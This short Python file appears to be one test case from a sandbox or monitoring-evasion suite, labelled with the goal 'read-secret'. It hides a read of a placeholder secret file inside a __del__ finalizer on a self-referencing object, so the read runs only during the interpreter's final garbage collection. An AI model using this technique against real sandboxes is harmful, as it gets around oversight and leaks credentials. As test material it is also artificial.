# technique: a cycle that only the last collection of the interpreter breaks
# goal: read-secret
# source: own analysis: the empty stack
import functools
code = compile('print(open("@SECRET@").read(), flush=True)', 'x', 'exec')


class Last:
    __del__ = staticmethod(functools.partial(exec, code, {}))


last = Last()
last.self = last
del last
